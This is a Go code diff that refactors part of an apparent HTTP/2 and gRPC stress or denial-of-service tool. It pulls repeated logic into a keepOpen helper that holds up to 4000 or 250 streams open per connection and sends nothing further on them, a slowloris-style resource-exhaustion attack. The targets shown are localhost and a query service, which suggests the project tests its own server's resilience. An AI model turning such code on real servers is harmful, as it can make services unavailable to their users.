@@ -245,18 +245,22 @@ func (p *peer) more(ctx context.Context, id *uint32, start []byte, fields []stri
 
 // parkedHeaders keeps as many calls open as one connection may have.
 func parkedHeaders(ctx context.Context, a *attacker) {
-	fields := call(queryService+"ExecuteQuery", a.Ticket)
-	a.onPeers(ctx, 10, true, func(ctx context.Context, p *peer) error {
+	a.onPeers(ctx, 10, true, keepOpen(4000, call(queryService+"ExecuteQuery", a.Ticket)))
+}
+
+// keepOpen keeps so many calls with those headers open on a connection, and says no more on them.
+func keepOpen(calls int, fields []string) func(context.Context, *peer) error {
+	return func(ctx context.Context, p *peer) error {
 		p.mu.Lock()
 		open := len(p.windows)
 		p.mu.Unlock()
-		if open >= 4000 {
+		if open >= calls {
 			rest(ctx, 10*time.Millisecond)
 			return nil
 		}
 		_, err := p.open(false, fields...)
 		return err
-	})
+	}
 }
 
 // unfinishedHeaders stops where what it sent has to be kept.
@@ -360,17 +364,9 @@ func longDeclarations(ctx context.Context, a *attacker) {
 
 // openPosts keeps as many calls of HTTP open as the connections may have.
 func openPosts(ctx context.Context, a *attacker) {
-	a.onPeersOf(ctx, a.HTTP, 40, true, func(ctx context.Context, p *peer) error {
-		p.mu.Lock()
-		open := len(p.windows)
-		p.mu.Unlock()
-		if open >= 250 {
-			rest(ctx, 10*time.Millisecond)
-			return nil
-		}
-		_, err := p.open(false, ":method", "POST", ":scheme", "http", ":path", "/v1/query", ":authority", "localhost", "content-type", "application/json")
-		return err
-	})
+	a.onPeersOf(ctx, a.HTTP, 40, true, keepOpen(250, []string{
+		":method", "POST", ":scheme", "http", ":path", "/v1/query", ":authority", "localhost", "content-type", "application/json",
+	}))
 }
 
 func settingsStorm(ctx context.Context, a *attacker) {
